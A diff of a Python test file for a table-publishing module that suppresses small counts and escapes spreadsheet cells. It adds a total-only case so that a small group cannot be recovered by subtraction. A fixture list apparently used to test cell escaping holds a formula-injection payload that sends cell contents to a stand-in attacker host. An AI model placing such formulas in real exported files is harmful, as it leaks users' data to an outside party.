@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from vigil.publish import OTHER, csv_text, safe_cell, suppress
+from vigil.publish import ALL, OTHER, csv_text, safe_cell, suppress
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -50,17 +50,22 @@ def test_a_pool_of_enough_stays_alone() -> None:
 
 def test_a_tiny_table_shows_less_than() -> None:
     cells = suppress([("female", 2), ("male", 1)], 5)
-    assert [(c.key, c.count, c.text) for c in cells] == [(OTHER, None, "<5")]
+    assert [(c.key, c.count, c.text) for c in cells] == [(ALL, None, "<5")]
+
+
+def test_two_groups_with_one_small_show_only_the_total() -> None:
+    # 40 women and 3 men: showing "female 40" beside a total of 43 would give the men.
+    assert [(c.key, c.count) for c in suppress([("female", 40), ("male", 3)], 5)] == [(ALL, 43)]
 
 
 @given(st.dictionaries(st.text(min_size=1, max_size=5), st.integers(0, 30), max_size=12),
        st.integers(2, 10))  # fmt: skip
 def test_no_hidden_group_can_be_worked_out(groups: dict[str, int], min_cell: int) -> None:
     cells = suppress(sorted(groups.items()), min_cell)
-    shown = {c.key for c in cells if c.key != OTHER}
+    shown = {c.key for c in cells if c.key not in (OTHER, ALL)}
     total = sum(groups.values())
     assert all(groups[k] >= min_cell for k in shown)  # no small cell under its label
-    pool = [c for c in cells if c.key == OTHER]
+    pool = [c for c in cells if c.key in (OTHER, ALL)]
     if pool and total >= min_cell:
         # the pool is no small cell itself, and holds two groups or more
         assert (pool[0].count or 0) >= min_cell
